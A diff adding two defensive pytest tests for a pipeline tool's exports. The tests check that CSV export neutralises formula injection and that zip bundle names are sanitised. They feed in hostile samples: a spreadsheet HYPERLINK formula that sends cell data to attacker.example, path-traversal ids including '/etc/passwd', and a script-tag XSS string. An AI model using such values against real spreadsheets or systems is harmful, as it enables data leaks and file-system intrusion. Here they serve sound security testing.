@@ -298,3 +298,42 @@ def test_database_deleted_mid_session_exits_non_zero_without_a_verdict(capsys: p
     assert code != 0 and out.strip() == ""
     last = err.strip().splitlines()[-1]  # after the tool progress lines
     assert "Traceback" not in err and "deleted or replaced" in last
+
+
+# --- hostile values in exports --------------------------------------------------------------
+
+
+def test_csv_export_neutralises_formulas_and_the_cli_gives_the_pages_export(
+        capsys: pytest.CaptureFixture[str]) -> None:
+    import csv
+    import io
+
+    from pipeline.queue import QueueFilter, export_csv
+
+    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"payment API timeout")'
+    for question in (hostile, "+1 payment timeout", "@SUM(A1) payment timeout", "-1 payment timeout"):
+        assert run(capsys, "ask", question)[0] == 0
+    code, out, _ = run(capsys, "sessions", "--format", "csv")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff"))))
+    questions = {r["question"] for r in rows}
+    assert questions == {"'" + hostile, "'+1 payment timeout", "'@SUM(A1) payment timeout", "'-1 payment timeout"}
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+    # The Sessions page downloads queue.export_csv of its filter; "show all" is what the CLI lists.
+    page = export_csv(Store(load_settings().db_url), QueueFilter(needs_person=False, include_eval=True, reviewed=None))
+    assert out.encode("utf-8") == page
+
+
+def test_bundle_zip_entries_are_plain_file_names_whatever_the_stored_id(store: Store) -> None:
+    import zipfile
+    from io import BytesIO
+
+    from pipeline.queue import QueueFilter, export_zip
+
+    for sid in ("../../../../tmp/pwned", "<script>alert(1)</script>", "a\\..\\b", "x" * 5000, "/etc/passwd"):
+        store.create_session(question="q", world=None, shape="split", provider="offline", model="m", session_id=sid)
+    with zipfile.ZipFile(BytesIO(export_zip(store, QueueFilter(needs_person=False, reviewed=None)))) as zf:
+        names = zf.namelist()
+    assert len(names) == len(set(names)) == 5
+    assert all(n.endswith(".json") and len(n) <= 110 and "/" not in n and "\\" not in n and ".." not in n
+               and "<" not in n for n in names), names
